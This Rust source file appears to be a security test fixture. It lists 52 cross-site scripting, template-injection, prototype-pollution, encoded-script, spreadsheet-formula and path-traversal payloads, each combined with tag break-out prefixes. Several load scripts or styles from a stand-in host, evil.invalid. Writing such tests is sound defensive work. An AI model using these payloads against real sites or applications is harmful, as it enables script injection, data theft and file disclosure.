//! What hostile bundles try. Tests of the command read it too.

/// What is tried: elements that run, load, redirect, frame or restyle; addresses that run; templates;
/// controls of direction and joins that hide what stands there.
const TRIED: [&str; 52] = [
    "<script>window.ran = 1</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=//evil.invalid/x.png>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:window.ran=1></iframe>",
    "<object data=//evil.invalid/x></object>",
    "<embed src=//evil.invalid/x>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css'; body{display:none}</style>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<form action=//evil.invalid/><input name=q><button>Go</button></form>",
    "<a href=javascript:window.ran=1>x</a>",
    "<a href=//evil.invalid/ ping=//evil.invalid/>x</a>",
    "<video src=x onerror=window.ran=1></video>",
    "<audio src=x onerror=window.ran=1></audio>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<body onload=window.ran=1>",
    "<marquee onstart=window.ran=1>",
    "<template><script>window.ran=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<textarea></textarea><script>window.ran=1</script>",
    "<!--><img src=x onerror=window.ran=1>-->",
    "<![CDATA[<img src=x onerror=window.ran=1>]]>",
    "<?xml version='1.0'?><x onload=window.ran=1>",
    "<x onclick=window.ran=1 style='position:fixed;inset:0'>x</x>",
    "<div style='background:url(//evil.invalid/x)'>x</div>",
    "<dialog open>x</dialog>",
    "<plaintext>",
    "<xmp>",
    "<title>x</title>",
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:x",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "`${window.ran=1}`",
    "__proto__",
    "constructor",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "=HYPERLINK(\"//evil.invalid/\")",
    "../../../../etc/passwd",
];

/// How a text breaks out of where it was put, in front of what it then tries.
const BROKEN_OUT: [&str; 5] = [
    "",
    "\">",
    "'>",
    "</textarea></script></style></title>",
    "--></p></div>",
];

/// Every attempt.
pub(crate) fn payloads() -> impl Iterator<Item = String> {
    TRIED
        .iter()
        .flat_map(|tried| BROKEN_OUT.map(|broken| format!("{broken}{tried}")))
}
